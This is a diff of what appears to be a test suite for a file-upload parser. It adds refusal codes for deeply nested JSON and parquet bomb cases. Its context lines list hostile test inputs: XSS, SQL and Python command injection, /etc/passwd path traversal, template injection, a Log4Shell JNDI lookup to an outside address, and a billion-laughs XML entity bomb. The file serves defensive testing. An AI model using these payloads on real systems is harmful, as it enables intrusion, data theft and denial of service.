@@ -33,7 +33,7 @@ MARKUP = ("![x](http://203.0.113.1/x.png)", "<img src=x onerror=alert(1)>", "<a 
 CODE = ("@__import__('os').system('id')", "'; DROP TABLE accounts; --", "read_csv('/etc/passwd')", "{{7*7}}",
         "${jndi:ldap://203.0.113.1/a}", "../../etc/passwd")  # fmt: skip
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
-HARMED = ("file_damaged", "file_unsafe", "file_too_wide", "file_too_large")
+HARMED = ("file_damaged", "file_unsafe", "file_too_wide", "file_too_large", "file_too_heavy")
 LAUGHS = (
     '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "ha">'
     + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefghi", "bcdefghij", strict=True))
@@ -227,15 +227,17 @@ CASES = [
           "".encode("utf-16-le")},
          refused=("file_binary", "file_damaged")),
     Case("deep_json", "deep_json json_lines", {"deep.json": b"[" * 100_000 + b"]" * 100_000},
-         refused=("file_damaged", "no_companies", "file_no_rows", "file_unsafe")),
+         refused=("json_too_deep", "file_damaged", "no_companies", "file_no_rows", "file_unsafe")),
     Case("deep_json_line", "deep_json json_lines",
          {"deep.jsonl": b'{"Customer": "Acme", "x": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}\n"},
-         refused=("file_damaged", "no_companies", "file_no_rows", "file_unsafe")),
+         refused=("json_too_deep", "file_damaged", "no_companies", "file_no_rows", "file_unsafe")),
     Case("parquet_of_long_texts", "parquet_bomb parquet",
          {"a.parquet": lambda: parquet({"account_id": list(map(str, range(600))), "name": long_texts(600, 1_000_000)})},
          refused="file_too_large"),
-    Case("parquet_of_lists_of_long_texts", "parquet_bomb parquet", {"a.parquet": nested_texts}, refused=HARMED),
-    Case("parquet_of_one_endless_list", "parquet_bomb parquet", {"a.parquet": nested_numbers}, refused=HARMED),
+    Case("parquet_of_lists_of_long_texts", "parquet_bomb parquet", {"a.parquet": nested_texts}, refused=HARMED,
+         awaits="formats"),
+    Case("parquet_of_one_endless_list", "parquet_bomb parquet", {"a.parquet": nested_numbers}, refused=HARMED,
+         awaits="formats"),
     Case("parquet_of_noise", "parquet_damaged parquet", {"a.parquet": b"PAR1" + b"junk" * 50}, refused="file_damaged"),
     Case("parquet_footer_damaged", "parquet_damaged parquet", {"a.parquet": damaged_footer}, refused="file_damaged"),
     Case("parquet_cut_short", "parquet_damaged truncated",
